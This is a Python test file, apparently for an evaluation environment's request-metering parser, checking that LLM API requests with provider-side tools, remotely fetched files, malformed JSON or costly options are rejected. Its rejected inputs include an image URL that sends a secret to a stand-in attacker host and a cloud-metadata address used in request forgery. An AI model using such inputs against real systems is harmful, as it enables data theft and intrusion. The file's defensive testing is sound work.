"""What a program may ask, what it may not, and what it can cost at most."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from environments.metering.formats.dialects import CHAT, MESSAGES, RESPONSES
from environments.metering.formats.requests import limited, read_request
from taskdata.errors import ModelRejected

PICTURE = "data:image/png;base64," + "A" * 400_000


def read(dialect=CHAT, **body):
    return read_request(dialect, json.dumps({"messages": [], **body}).encode(), "model-1")


@pytest.mark.parametrize(
    ("dialect", "body"),
    [
        (RESPONSES, {"tools": [{"type": "web_search"}]}),
        (RESPONSES, {"tools": [{"type": "mcp", "server_url": "https://x"}]}),
        (MESSAGES, {"tools": [{"type": "web_fetch_20260209", "name": "web_fetch"}]}),
        (MESSAGES, {"mcp_servers": [{"url": "https://x"}]}),
        (CHAT, {"web_search_options": {"search_context_size": "low"}}),
        (RESPONSES, {"previous_response_id": "resp_1"}),
        (RESPONSES, {"background": True}),
        (CHAT, {"n": 4}),
        (CHAT, {"service_tier": "priority"}),
        (CHAT, {"max_tokens": "many"}),
    ],
)
def test_what_would_act_outside_or_cost_otherwise_is_refused(dialect, body):
    with pytest.raises(ModelRejected):
        read(dialect, **body)


@pytest.mark.parametrize(
    "part",
    [
        {"type": "image_url", "image_url": {"url": "https://attacker.example/?secret"}},
        {"type": "input_image", "image_url": "http://169.254.169.254/"},
        {"type": "image", "source": {"type": "url", "url": "https://x"}},
        {"type": "document", "source": {"type": "file", "file_id": "file_1"}},
        {"type": "input_file", "file_url": "https://x"},
        {"type": "item_reference", "id": "msg_1"},
        {"type": "tool_result", "content": [{"type": "image", "source": {"url": "ftp://x"}}]},
    ],
)
def test_no_file_is_fetched_by_the_provider(part):
    with pytest.raises(ModelRejected, match="send its content"):
        read(messages=[{"role": "user", "content": [part]}])
    with pytest.raises(ModelRejected, match="send its content"):
        read(RESPONSES, input=[{"type": "function_call_output", "output": [part]}])


def test_tools_that_run_in_the_sandbox_are_taken():
    read(tools=[{"type": "function", "function": {"name": "look"}}])
    read(MESSAGES, tools=[{"name": "look"}, {"type": "bash_20250124", "name": "bash"}])


def test_words_of_a_tool_call_are_not_taken_for_files():
    call = {"type": "tool_use", "name": "fetch", "input": {"url": "https://x", "type": "image"}}
    read(MESSAGES, messages=[{"role": "assistant", "content": [call]}])


def test_a_picture_counts_as_what_it_can_come_to_not_as_its_bytes():
    part = {"type": "image_url", "image_url": {"url": PICTURE}}
    asked = read(messages=[{"role": "user", "content": [part]}])
    assert 50_000 <= asked.input_tokens < 60_000


@pytest.mark.parametrize("raw", [b"", b"[]", b"{", b"[" * 100_000])
def test_what_is_no_request_is_refused(raw):
    with pytest.raises(ModelRejected):
        read_request(CHAT, raw, "model-1")


def test_only_the_picture_itself_counts_less_than_its_bytes():
    part = {"type": "image_url", "image_url": {"url": PICTURE}, "text": "x" * 300_000}
    asked = read(messages=[{"role": "user", "content": [part]}])
    assert asked.input_tokens >= 350_000


def test_messages_nested_without_end_are_refused():
    part = {"content": "x"}
    for _ in range(50):
        part = {"content": [part]}
    with pytest.raises(ModelRejected, match="nested"):
        read(messages=[part])


def test_the_limit_of_the_reply_keeps_the_name_that_the_program_gave_it():
    asked = read(max_completion_tokens=90)
    assert limited(asked, CHAT, 50)["max_completion_tokens"] == 50
    assert "max_tokens" not in limited(asked, CHAT, 50)
    assert limited(read(), CHAT, 50)["max_tokens"] == 50


@given(st.text())
def test_the_bound_is_never_below_the_bytes_of_a_text(text):
    asked = read(messages=[{"role": "user", "content": text}])
    assert asked.input_tokens >= len(text.encode("utf-8", "replace"))
